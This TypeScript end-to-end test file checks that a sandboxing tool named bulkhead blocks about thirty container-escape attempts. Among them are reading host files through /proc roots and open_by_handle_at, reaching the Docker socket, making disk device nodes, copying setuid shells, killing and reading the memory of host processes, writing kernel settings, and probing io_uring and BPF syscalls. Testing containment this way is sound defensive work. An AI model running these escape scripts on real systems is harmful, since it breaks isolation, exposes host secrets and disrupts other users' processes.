/** Ways out of the container to the machine under it: files, devices, processes, kernel interfaces, privileges (rows D4, A4). */
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe } from "vitest";
import { createRepository, createRig, type Rig } from "../support/bulkhead-cli.ts";
import { endRig } from "../support/e2e-rig.ts";
import {
  type Evidences,
  idsOf,
  PRIVILEGED_OPTIONS,
  plantScripts,
  python,
  runInBulkhead,
  runInPlainContainer,
  type ScriptAttack,
  scriptAttacks,
  systemCall,
} from "./support/script-attacks.ts";

const CANARY = `canary-${randomBytes(8).toString("hex")}`;
/** In the command line of a process of the host, which the attacks look for and try to end. */
const PREY = `prey-${randomBytes(6).toString("hex")}`;
/** A System V key: shared memory of the host is found by it. */
const SHM_KEY = 0x10_00_00_00 + Math.floor(Math.random() * 0xff_ff_ff);

const PLAIN = "a plain container";
const AS_USER = "a plain container with --user 10001";
const PRIVILEGED = "a container with all privileges and the host's namespaces";
const SOCKET = "a container with the engine's socket mounted";
const HIJACKED = "a container with the work tree on its PATH";

const rig: Rig = createRig();
const secretPath = join(rig.root, "host-secret.txt");

const takesCanary = ({ output }: { output: string }) => output.includes(CANARY);

const ATTACKS: readonly ScriptAttack[] = [
  {
    id: "containment/host-file",
    claim: "reads a file of the host, by its path or through the root directory of another process",
    baseline: PRIVILEGED,
    script: `cat ${secretPath} || for root in /proc/[0-9]*/root /proc/[0-9]*/cwd; do cat "$root${secretPath}" && exit; done`,
    succeeded: takesCanary,
  },
  {
    id: "containment/host-file-by-handle",
    claim: "opens the host's root directory by its inode number and reads a file there",
    baseline: PRIVILEGED,
    // The first open_by_handle_at escape: any file of the file system serves as the mount, and the root directory is inode 2.
    script: python(`
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("id", ctypes.c_ubyte * 8)]
for place in ("/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/workspace", "/run/bulkhead", "/opt/bulkhead"):
    try: mount = os.open(place, os.O_RDONLY)
    except OSError: continue
    root = libc.open_by_handle_at(mount, ctypes.byref(Handle(8, 1, (ctypes.c_ubyte * 8)(2))), os.O_RDONLY)
    if root < 0: continue
    for name in (${JSON.stringify(secretPath.slice(1))},):
        try: print(open(os.open(name, os.O_RDONLY, dir_fd=root)).read()); sys.exit(0)
        except OSError as e: print(place, e)
sys.exit(1)`),
    succeeded: takesCanary,
  },
  {
    id: "containment/engine-socket",
    claim: "talks to the container engine, which would start a privileged container for it",
    baseline: SOCKET,
    script:
      "for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do curl -sf -m 3 --unix-socket $s http://engine/version | grep ApiVersion && exit 0; done; exit 1",
  },
  {
    id: "containment/disk-device",
    claim: "makes a device node of a disk of the host, such as another task's disk image, and reads it",
    baseline: PRIVILEGED,
    script:
      "for n in $(seq 0 63); do for d in /tmp /workspace /dev/shm; do rm -f $d/disk; mknod $d/disk b 7 $n && head -c 64 $d/disk; rm -f $d/disk; done; done",
    succeeded: takesCanary,
  },
  {
    id: "containment/host-device",
    claim:
      "opens a device of the host: disks, loop devices, tunnels, file systems in user space, virtual machines, the kernel's log",
    baseline: PRIVILEGED,
    script:
      "for f in /dev/loop-control /dev/loop0 /dev/vda /dev/sda /dev/nvme0n1 /dev/net/tun /dev/fuse /dev/kvm /dev/vsock /dev/kmsg /dev/mem; do python3 -c \"import os; os.open('$f', os.O_RDONLY)\" && echo $f && exit 0; done; exit 1",
  },
  {
    id: "containment/root-file-system",
    claim: "replaces a program that the next user of this container would run",
    baseline: PLAIN,
    script:
      "for f in /usr/local/bin/git /usr/bin/env2 /etc/ld.so.preload2 /opt/bulkhead/bin/node2 /run/bulkhead/x; do echo '#!/bin/sh' > $f && test -s $f && exit 0; done; exit 1",
  },
  {
    id: "containment/toolbox",
    claim: "changes the tools that bulkhead mounts, which are the same files for every task",
    baseline: PRIVILEGED,
    script: `t=/opt/bulkhead; test -e $t/bin/node || { mkdir -p $t/bin; : > $t/bin/node; }
for f in $t/bin/node $t/bin/bulkhead-bus $t/bulkhead-bus.mjs; do python3 -c "open('$f', 'r+b')" && exit 0; chmod u+w $f && exit 0; mv $f $f.old && exit 0; done; exit 1`,
  },
  {
    id: "containment/hosts-file",
    claim: "rewrites /etc/hosts, which is a file of the host and shared",
    baseline: PLAIN,
    script: "echo '127.0.0.9 elsewhere' >> /etc/hosts && getent hosts elsewhere",
  },
  {
    id: "containment/mount",
    claim: "mounts a file system",
    baseline: PRIVILEGED,
    script: "mkdir -p /tmp/m && mount -t tmpfs none /tmp/m && grep /tmp/m /proc/mounts",
  },
  {
    id: "containment/remount",
    claim: "makes a read-only mount writable",
    baseline: PRIVILEGED,
    script:
      "grep -q ' /run/bulkhead ' /proc/mounts || { mkdir -p /run/bulkhead; mount -t tmpfs -o ro none /run/bulkhead; }; mount -o remount,rw,bind /run/bulkhead; mount -o remount,rw /run/bulkhead; touch /run/bulkhead/x",
  },
  {
    id: "containment/user-namespace",
    claim: "becomes root in a user namespace of its own, with all of the kernel behind it",
    baseline: PRIVILEGED,
    script:
      "test \"$(unshare --user --map-root-user --mount sh -c 'mount -t tmpfs none /tmp && id -u')\" = 0",
  },
  {
    id: "containment/chroot",
    claim: "calls chroot, the first step of a classic way out",
    baseline: PLAIN,
    script: python('os.chroot("/"); print("done")'),
  },
  {
    id: "containment/setuid-program",
    claim: "becomes root through a setuid program of the image",
    baseline: AS_USER,
    script: python(`
import subprocess
child = subprocess.Popen(["su", "root"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(100):
    uids = [l for l in open(f"/proc/{child.pid}/status") if l.startswith("Uid:")][0].split()
    if uids[2] == "0": print(uids); child.kill(); sys.exit(0)
    time.sleep(0.01)
child.kill(); sys.exit(1)`),
  },
  {
    id: "containment/setuid-root-copy",
    claim: "keeps a setuid-root copy of a shell in the work tree for later",
    baseline: PLAIN,
    script: python(`
import shutil
shutil.copy("/usr/bin/python3", "/workspace/shell"); os.chmod("/workspace/shell", 0o4755)
owner, mode = os.stat("/workspace/shell").st_uid, os.stat("/workspace/shell").st_mode
os.remove("/workspace/shell"); print(owner, oct(mode)); sys.exit(0 if owner == 0 and mode & 0o4000 else 1)`),
  },
  {
    id: "containment/change-user",
    claim: "changes to uid 0",
    baseline: PRIVILEGED,
    script: python("os.setresuid(1, 1, 0); os.setresuid(0, 0, 0); print(os.getresuid())"),
  },
  {
    id: "containment/file-capabilities",
    claim: "gives a program of its own a capability by extended attribute",
    baseline: PLAIN,
    script: python(`
path = "/tmp/capable"; open(path, "w").close()
os.setxattr(path, "security.capability", b"\\x01\\0\\0\\2" + b"\\xff" * 16); print("set")`),
  },
  {
    id: "containment/host-processes",
    claim: "sees the host's processes and their command lines",
    baseline: PRIVILEGED,
    // With one letter in brackets: the search must not find its own command line.
    script: `cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -a -o '[${PREY[0]}]${PREY.slice(1)}' | head -1 | grep .`,
  },
  {
    id: "containment/kill-host-process",
    claim: "ends a process of the host",
    baseline: PRIVILEGED,
    script: python(`
import signal
prey = ${JSON.stringify(PREY.slice(0, 5))} + ${JSON.stringify(PREY.slice(5))}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try: words = open(f"/proc/{pid}/cmdline").read().split("\\0")
    except OSError: continue
    if prey in words: os.kill(int(pid), signal.SIGKILL); print("killed", pid); sys.exit(0)
sys.exit(1)`),
  },
  {
    id: "containment/trace-host-process",
    claim: "reads the memory of a process that runs as another user",
    baseline: PRIVILEGED,
    script: python(`
for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
    try:
        if os.stat(f"/proc/{pid}").st_uid != os.getuid():
            line = next(l for l in open(f"/proc/{pid}/maps") if "r-" in l); start = int(line.split("-")[0], 16)
            memory = open(f"/proc/{pid}/mem", "rb"); memory.seek(start); print(pid, memory.read(4)); sys.exit(0)
    except (OSError, StopIteration, ValueError): pass
sys.exit(1)`),
  },
  {
    id: "containment/host-shared-memory",
    claim: "attaches shared memory of the host's processes",
    baseline: PRIVILEGED,
    script: python(`
shm = libc.shmget(${SHM_KEY}, 0, 0)
print(shm); sys.exit(0 if shm >= 0 else 1)`),
  },
  {
    id: "containment/kernel-log",
    claim: "reads the kernel's log",
    baseline: PRIVILEGED,
    script: python(`
buffer = ctypes.create_string_buffer(65536)
n = libc.klogctl(3, buffer, 65536); print(n); sys.exit(0 if n > 0 else 1)`),
  },
  {
    id: "containment/kernel-settings",
    claim: "writes a kernel setting of the machine (here: its own value)",
    baseline: PRIVILEGED,
    script:
      'for s in vm/swappiness kernel/core_pattern kernel/panic; do v=$(cat /proc/sys/$s) && echo "$v" > /proc/sys/$s && exit 0; done; exit 1',
  },
  {
    id: "containment/device-model",
    claim: "writes to the device tree under /sys",
    baseline: PRIVILEGED,
    script:
      "for f in /sys/kernel/mm/transparent_hugepage/enabled /sys/kernel/uevent_helper /sys/module/*/parameters/*; do test -e $f || continue; python3 -c \"import os; os.open('$f', os.O_WRONLY)\" && echo $f && exit 0; done; exit 1",
  },
  {
    id: "containment/control-groups",
    claim: "makes a control group, from where its own limits could be lifted or a program of the host called",
    baseline: PRIVILEGED,
    script:
      "for g in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $g/bh-escape && rmdir $g/bh-escape && exit 0; done; exit 1",
  },
  {
    id: "containment/host-name",
    claim: "sets the name of the machine (here: to what it is)",
    baseline: PRIVILEGED,
    script: python("socket.sethostname(socket.gethostname()); print(socket.gethostname())"),
  },
  {
    id: "containment/io-uring",
    claim: "reaches io_uring, which passes by the system call filter",
    baseline: PLAIN,
    script: systemCall(425, 8, 0),
  },
  {
    id: "containment/keyring",
    claim: "uses the kernel's keyring, which is not separated by namespaces",
    baseline: PRIVILEGED,
    // KEYCTL_GET_KEYRING_ID of the session's keyring, made if there is none.
    script: systemCall(250, 0, -3, 1),
  },
  {
    id: "containment/bpf",
    claim: "reaches the kernel's BPF machine",
    baseline: PRIVILEGED,
    script: systemCall(321, 99, 0, 0),
  },
  {
    id: "containment/user-fault",
    claim: "reaches userfaultfd, which makes races in the kernel easy to win",
    baseline: PRIVILEGED,
    script: systemCall(323, 0x7fff_ffff),
  },
  {
    id: "containment/perf-events",
    claim: "reaches the kernel's performance counters",
    baseline: PRIVILEGED,
    script: systemCall(298, 0, 0, -1, -1, 0),
  },
  {
    id: "containment/hijacked-wrapper",
    claim: "has the programs of the command's wrapper found in the work tree (`timeout`, `sh`, a profile)",
    baseline: HIJACKED,
    script: "test -e /tmp/hijacked",
  },
  {
    id: "containment/end-init",
    claim: "stops or kills process 1, which watches over the container",
    baseline: HIJACKED,
    // Root may signal it; SIGCONT is a signal that does no harm.
    script: python('os.kill(1, 18); raise SystemExit(0 if os.stat("/proc/1").st_uid == 0 else 1)'),
  },
];

let prey: ChildProcess;
/** A disk of the host with the canary on it. */
let loopDevice = "";
const baselines = new Map<string, Evidences>();
let guarded: Evidences;

beforeAll(async () => {
  writeFileSync(secretPath, `${CANARY}\n`);
  const image = join(rig.root, "disk.img");
  writeFileSync(image, `${CANARY}\n`.padEnd(65_536, "\0"));
  loopDevice = execFileSync("losetup", ["--find", "--show", image], { encoding: "utf8" }).trim();
  prey = spawn("sh", ["-c", "while :; do sleep 1; done", PREY], { stdio: "ignore", uid: 65_534 });
  execFileSync("python3", [
    "-c",
    `import ctypes; assert ctypes.CDLL(None).shmget(${SHM_KEY}, 4096, 0o1666) >= 0`,
  ]);
  const hijack = (next: string) => `#!/bin/bash\n: > /tmp/hijacked\nexec ${next} "$@"\n`;
  const repository = createRepository(join(rig.root, "repo"), {
    timeout: hijack("/usr/bin/timeout"),
    sh: hijack("/bin/sh"),
    env: hijack("/usr/bin/env"),
    ".profile": ": > /tmp/hijacked\n",
    ".bashrc": ": > /tmp/hijacked\n",
  });
  for (const name of ["timeout", "sh", "env"]) execFileSync("chmod", ["755", join(repository, name)]);
  plantScripts(repository, ATTACKS);
  const options: ReadonlyArray<readonly [string, string[], string[]?]> = [
    [PLAIN, ["--user", "0"]],
    [AS_USER, ["--user", "10001:10001"]],
    [SOCKET, ["--user", "0", "--volume", "/var/run/docker.sock:/var/run/docker.sock"]],
    [PRIVILEGED, [...PRIVILEGED_OPTIONS]],
    [HIJACKED, ["--user", "0", "--env", "PATH=/workspace:/usr/bin:/bin"], ["timeout", "60"]],
  ];
  // bulkhead first: one of the attacks ends the process that others look for.
  guarded = await runInBulkhead(rig, repository);
  for (const [name, argv, before] of options) {
    const ids = idsOf(ATTACKS, name);
    baselines.set(name, await runInPlainContainer(repository, argv, ids, before));
  }
});

afterAll(async () => {
  prey.kill("SIGKILL");
  execFileSync("losetup", ["--detach", loopDevice]);
  execFileSync("ipcrm", ["-M", String(SHM_KEY)]);
  if (existsSync(rig.root)) await endRig(rig);
});

describe("containment", () => {
  scriptAttacks(ATTACKS, { baselines, bulkhead: () => guarded });
});
